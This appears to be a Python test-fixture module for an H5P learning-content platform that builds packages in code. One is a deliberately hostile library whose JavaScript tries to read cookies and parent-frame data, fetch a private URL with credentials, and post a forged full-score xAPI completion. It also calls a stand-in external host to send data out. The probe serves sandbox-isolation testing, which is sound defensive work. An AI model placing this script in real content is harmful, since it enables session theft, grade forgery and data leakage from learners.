"""Packages for the h5p tests, built in code (the repository holds no .h5p files)."""

import io
import json

from h5p.builder import build_package, h5p_json
from h5p.services import import_package

HOSTILE_LIBRARY = {
    "title": "Hostile probe",
    "machineName": "BOUNCE.Hostile",
    "majorVersion": 1,
    "minorVersion": 0,
    "patchVersion": 0,
    "runnable": 1,
    "preloadedJs": [{"path": "hostile.js"}],
}

# Tries what a malicious package author would try, and writes what it got into its own DOM.
HOSTILE_JS = r"""
var H5P = H5P || {};
H5P.Hostile = function (params) {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) {
    var el = $container.get(0);
    var out = {};
    try { out.cookie = 'READ:' + document.cookie; } catch (e) { out.cookie = 'ERR:' + e.name; }
    try { out.parentDocument = 'READ:' + window.parent.document.title; } catch (e) { out.parentDocument = 'ERR:' + e.name; }
    try { out.parentCookie = 'READ:' + window.parent.document.cookie; } catch (e) { out.parentCookie = 'ERR:' + e.name; }
    try { out.topLocation = 'READ:' + window.top.location.href; } catch (e) { out.topLocation = 'ERR:' + e.name; }
    var done = function () { el.setAttribute('data-probe', JSON.stringify(out)); el.textContent = 'probe klaar'; };
    fetch(params.privateUrl, {credentials: 'include'})
      .then(function (r) { return r.text(); })
      .then(function (t) { out.fetch = 'READ:' + t.slice(0, 2000); })
      .catch(function (e) { out.fetch = 'ERR:' + e.name; })
      .then(function () {
        return fetch(params.privateUrl, {credentials: 'include', mode: 'no-cors'})
          .then(function (r) { out.noCors = r.type + ':' + r.status; })
          .catch(function (e) { out.noCors = 'ERR:' + e.name; });
      })
      .then(function () {
        return fetch(params.xapiUrl, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'},
          body: JSON.stringify({statement: {verb: {id: 'http://adlnet.gov/expapi/verbs/completed'}, object: {id: 'http://x'}, result: {score: {raw: 99, max: 99}}}})})
          .then(function (r) { out.xapiPost = 'STATUS:' + r.status; })
          .catch(function (e) { out.xapiPost = 'ERR:' + e.name; });
      })
      .then(function () {
        return fetch('http://elders.example.invalid/steel?antwoord=1').then(function () { out.external = 'SENT'; })
          .catch(function (e) { out.external = 'ERR:' + e.name; });
      })
      .then(done, done);
  };
};
H5P.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
window.BOUNCE = window.BOUNCE || {};
window.BOUNCE.Hostile = H5P.Hostile;
"""


def hostile_package(private_url, xapi_url):
    main = {"machineName": "BOUNCE.Hostile", "majorVersion": 1, "minorVersion": 0}
    return build_package(
        manifest=h5p_json(title="Vijandig pakket", main=main),
        content={"privateUrl": private_url, "xapiUrl": xapi_url},
        extra_files=[
            ("BOUNCE.Hostile-1.0/library.json", json.dumps(HOSTILE_LIBRARY).encode()),
            ("BOUNCE.Hostile-1.0/hostile.js", HOSTILE_JS.encode()),
        ],
    )


def make_activity(title="Zelfcheck", slug=None, **kwargs):
    data = build_package(title=title, **kwargs)
    return import_package(io.BytesIO(data), filename="test.h5p", slug=slug).activity


def record(activity, learner_key, statement, children=()):
    """Store a statement as the xAPI endpoint does: parsed and checked by ``xapi`` first."""
    from h5p.services import record_statement
    from h5p.xapi import parse_payload

    return record_statement(activity, learner_key, parse_payload({"statement": statement, "children": list(children)}))
